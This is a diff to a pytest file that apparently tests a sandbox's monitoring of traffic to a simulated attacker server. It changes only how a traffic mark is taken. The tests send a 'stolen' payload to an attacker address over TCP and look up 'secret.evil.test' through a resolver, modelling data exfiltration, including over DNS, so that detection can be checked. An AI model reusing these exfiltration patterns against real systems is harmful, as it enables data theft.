@@ -27,19 +27,19 @@ def probe(world: World, *arguments: str) -> str:
 
 @pytest.mark.parametrize(("to", "kind"), [(ATTACKER, "tcp4"), (ATTACKER6, "tcp6")])
 def test_every_packet_to_the_attacker_is_counted(world: World, to: str, kind: str) -> None:
-    mark = world.attacker.mark()
+    mark = world.mark()
     assert "thanks" in probe(world, "tcp", to, "443", "stolen")
     assert world.received(mark)[kind] > len("stolen")
 
 
 def test_traffic_to_others_is_not_counted(world: World) -> None:
-    mark = world.attacker.mark()
+    mark = world.mark()
     assert "paid" in probe(world, "tcp", OUTSIDE, "8443", "GET /pay HTTP/1.0\r\n\r\n")
     assert not world.received(mark)
 
 
 def test_names_of_the_attacker_reach_his_server_through_the_resolver(world: World) -> None:
-    mark = world.attacker.mark()
+    mark = world.mark()
     probe(world, "dns", RESOLVER, "secret.evil.test")
     assert world.attacker.wait_for(lambda event: event.kind == "dns" and event.text == "secret.evil.test", since=mark)
     assert world.received(mark)["udp4"]
